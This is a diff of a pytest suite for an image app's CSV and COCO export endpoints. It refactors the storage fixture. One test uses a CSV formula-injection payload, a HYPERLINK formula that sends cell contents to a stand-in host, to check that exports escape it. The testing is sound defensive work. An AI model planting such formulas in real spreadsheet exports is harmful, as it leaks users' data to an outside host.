@@ -4,8 +4,8 @@ from datetime import UTC, datetime
 import pytest
 from fastapi.testclient import TestClient
 
-from app.adapters.aws.table import Table
 from app.domain.ids import created_at
+from app.domain.ports import Images
 from app.domain.tags import TagEdit
 from detector import BoundingBox, Detection
 from tests.support.exports import check_coco, export, fetch_pages, list_boxes, make_image, table_rows
@@ -13,10 +13,10 @@ from tests.support.exports import check_coco, export, fetch_pages, list_boxes, m
 MOMENT = datetime(2026, 1, 31, 12, tzinfo=UTC)
 
 
-def test_csv_has_row_for_each_tag_of_each_image(client: TestClient, table: Table, owner: str) -> None:
+def test_csv_has_row_for_each_tag_of_each_image(client: TestClient, images: Images, owner: str) -> None:
     edits = {"cat": TagEdit(3, MOMENT), "dog": TagEdit(5, MOMENT), "bird": TagEdit(0, MOMENT)}
-    tagged = table.save(replace(make_image(owner, dog=2, person=1, bird=1), edits=edits, taken_at=MOMENT))
-    untagged = table.save(make_image(owner))
+    tagged = images.save(replace(make_image(owner, dog=2, person=1, bird=1), edits=edits, taken_at=MOMENT))
+    untagged = images.save(make_image(owner))
 
     (response,) = fetch_pages(client, "csv")
 
@@ -32,9 +32,9 @@ def test_csv_has_row_for_each_tag_of_each_image(client: TestClient, table: Table
     assert response.text.count("\r\n") == response.text.count("\n") == 5
 
 
-def test_coco_has_annotation_for_each_detection(client: TestClient, table: Table, owner: str) -> None:
+def test_coco_has_annotation_for_each_detection(client: TestClient, images: Images, owner: str) -> None:
     detections = tuple(Detection("Dog", 0.8765, BoundingBox(left, 2.0, 30.0, 40.1)) for left in (0.3, 1.5))
-    saved = table.save(
+    saved = images.save(
         replace(make_image(owner), detections=detections, edits={"cat": TagEdit(3, MOMENT)}, taken_at=MOMENT)
     )
 
@@ -63,9 +63,9 @@ def test_coco_has_annotation_for_each_detection(client: TestClient, table: Table
     assert document["licenses"] == []
 
 
-def test_coco_excludes_detections_of_removed_tags(client: TestClient, table: Table, owner: str) -> None:
+def test_coco_excludes_detections_of_removed_tags(client: TestClient, images: Images, owner: str) -> None:
     edits = {"dog": TagEdit(0, MOMENT), "cat": TagEdit(1, MOMENT)}
-    saved = table.save(replace(make_image(owner, dog=1, cat=2), edits=edits))
+    saved = images.save(replace(make_image(owner, dog=1, cat=2), edits=edits))
 
     document = export(client, "coco")
 
@@ -85,17 +85,17 @@ def test_coco_excludes_detections_of_removed_tags(client: TestClient, table: Tab
     ],
 )
 def test_name_with_special_characters_is_exported_unchanged(
-    client: TestClient, table: Table, owner: str, name: str
+    client: TestClient, images: Images, owner: str, name: str
 ) -> None:
-    table.save(replace(make_image(owner, dog=1), name=name, edits={name: TagEdit(2, MOMENT)}))
+    images.save(replace(make_image(owner, dog=1), name=name, edits={name: TagEdit(2, MOMENT)}))
 
     assert [(row[1], row[6]) for row in export(client)] == [(name, name), (name, "dog")]
     entry = export(client, "coco")["images"][0]
     assert (entry["file_name"], entry["tags"][name]) == (name, 2)
 
 
-def test_coco_with_unicode_name_is_ascii(client: TestClient, table: Table, owner: str) -> None:
-    table.save(replace(make_image(owner), name="写真.jpg"))
+def test_coco_with_unicode_name_is_ascii(client: TestClient, images: Images, owner: str) -> None:
+    images.save(replace(make_image(owner), name="写真.jpg"))
 
     (response,) = fetch_pages(client, "coco")
 
@@ -103,9 +103,9 @@ def test_coco_with_unicode_name_is_ascii(client: TestClient, table: Table, owner
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="])
-def test_csv_cell_that_starts_a_formula_is_escaped(client: TestClient, table: Table, owner: str, start: str) -> None:
+def test_csv_cell_that_starts_a_formula_is_escaped(client: TestClient, images: Images, owner: str, start: str) -> None:
     name = f'{start}HYPERLINK("http://x.example?"&A1,"see")'
-    table.save(replace(make_image(owner), name=name, edits={name: TagEdit(1, MOMENT)}))
+    images.save(replace(make_image(owner), name=name, edits={name: TagEdit(1, MOMENT)}))
 
     (row,) = export(client)
 
@@ -114,8 +114,8 @@ def test_csv_cell_that_starts_a_formula_is_escaped(client: TestClient, table: Ta
     assert export(client, "coco")["images"][0]["file_name"] == name
 
 
-def test_csv_formula_after_semicolon_is_escaped(client: TestClient, table: Table, owner: str) -> None:
-    table.save(replace(make_image(owner), name="sea; sand;=1+1; -2.jpg"))
+def test_csv_formula_after_semicolon_is_escaped(client: TestClient, images: Images, owner: str) -> None:
+    images.save(replace(make_image(owner), name="sea; sand;=1+1; -2.jpg"))
 
     (row,) = export(client)
 
